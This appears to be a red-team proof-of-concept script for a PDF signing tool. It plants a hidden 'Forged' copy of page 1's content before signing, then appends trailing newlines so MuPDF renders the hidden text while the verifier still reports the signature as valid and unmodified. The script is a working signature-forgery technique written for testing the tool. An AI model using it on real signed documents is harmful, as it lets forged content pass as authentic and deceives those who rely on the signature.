# Red-team finding (2026-12-07): whitespace after the last %%EOF is "no modification" for any
# length, but MuPDF looks for startxref only in the file's last 1024 bytes; past that it rebuilds
# the xref by scanning, and the last `N G obj` in file order wins. A document handed to the
# signer with an unreferenced later copy of page 1's content (a shadow no reader shows) is
# signed; appending 2000 newlines makes mutool render the shadow while countersign says VALID,
# modification level none.
# Usage: python3 redteam_trailing_whitespace_repair.py COUNTERSIGN CLASSIC_PDF OUTDIR
#   then: countersign verify OUTDIR/whitespace.pdf --trust testdata/pki/root-ca.cert.pem --json
#         mutool draw -F txt OUTDIR/whitespace.pdf 1     (prints "Forged")
import subprocess, sys
exe, classic, out = sys.argv[1], sys.argv[2], sys.argv[3]
d = open(classic, "rb").read()
i = d.index(b"xref\n0 9")
body = b"BT /F1 24 Tf 72 720 Td (Forged) Tj ET"
shadow = b"4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(body), body)
shadowed = d[:i] + shadow + d[i:]
shadowed = shadowed.replace(b"startxref\n753", b"startxref\n%d" % (753 + len(shadow)))
open(f"{out}/shadow.pdf", "wb").write(shadowed)  # every reader shows "Page 1"
subprocess.run([exe, "sign", f"{out}/shadow.pdf", "-o", f"{out}/signed.pdf"], check=True)
signed = open(f"{out}/signed.pdf", "rb").read()
open(f"{out}/whitespace.pdf", "wb").write(signed + b"\n" * 2000)
